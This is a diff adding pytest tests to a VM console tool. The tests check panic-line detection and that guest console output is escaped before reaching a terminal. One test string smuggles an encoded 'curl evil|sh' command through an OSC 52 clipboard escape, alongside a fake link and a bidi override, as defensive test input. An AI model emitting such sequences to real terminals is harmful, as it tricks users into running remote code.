@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import io
+import sys
 import threading
 from pathlib import Path
 from typing import Any
@@ -105,3 +107,47 @@ def test_cli_create_prints_the_console_lines_and_the_hint(
     assert code == 8
     assert "[   34.1] ucernvm: panic: CernVM-FS mount of demo.cern.ch failed" in err
     assert "--cvmfs-server 10.0.2.2:PORT" in err and "Traceback" not in err
+
+
+HOSTILE = "\x1b]52;c;Y3VybCBldmlsfHNo\x07 clipboard \x1b]8;;http://evil/\x07link\x1b]8;;\x07 \u202eevil\n"
+
+
+def test_a_panic_is_a_line_of_its_own_and_its_reason_is_capped() -> None:
+    """Anything a boot-time program prints could contain the words; only init's and the kernel's
+    own lines (at a line's start, after the uptime stamp) count. A long reason is cut."""
+    assert bootwatch.check("Linux version 6.1\n[ 2.0] myapp: ucernvm: panic: fake\n") is None
+    assert bootwatch.check("Linux version 6.1\necho ucernvm: panic: x\n") is None
+    assert bootwatch.check("Linux version 6.1\nsay Kernel panic - not syncing: no\n") is None
+    assert bootwatch.check("Linux version 6.1\nucernvm: panic: unstamped\n") is not None
+    stamped = bootwatch.check("Linux version 6.1\n[    2.345678] Kernel panic - not syncing: VFS\n")
+    assert stamped is not None and stamped.reason == "VFS"
+    long = bootwatch.check("Linux version 6.1\n[ 1.0] ucernvm: panic: " + "A" * 100_000 + "\n")
+    assert long is not None and len(long.reason) == bootwatch.REASON_MAX + 1
+
+
+def test_the_console_reaches_the_terminal_escaped(
+    driver_uri: str,
+    launch_env: Path,
+    image: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """OSC 52 (clipboard), OSC 8 (links) and bidi controls the guest printed are shown as \\xNN: in
+    wait's console lines always, in 'console --log' when it writes to a terminal."""
+    conn = libvirt.open(driver_uri)
+    create(conn, request(launch_env, image, "vm"))
+    _console(conn, "vm").write_text(DEMO_PANIC.replace("\x1b[0m\n", "error: " + HOSTILE))
+    assert main(["wait", "vm", "--timeout", "600"], connect=lambda uri: driver_host(conn)) == 8
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\u202e" not in err and "\x07" not in err
+    assert "\\x1b]52;c;" in err
+
+    class Terminal(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    for tty, escaped in ((False, False), (True, True)):
+        out = Terminal() if tty else io.StringIO()
+        monkeypatch.setattr(sys, "stdout", out)
+        assert main(["console", "--log", "vm"], connect=lambda uri: driver_host(conn)) == 0
+        assert ("\x1b" not in out.getvalue()) is escaped and "clipboard" in out.getvalue()
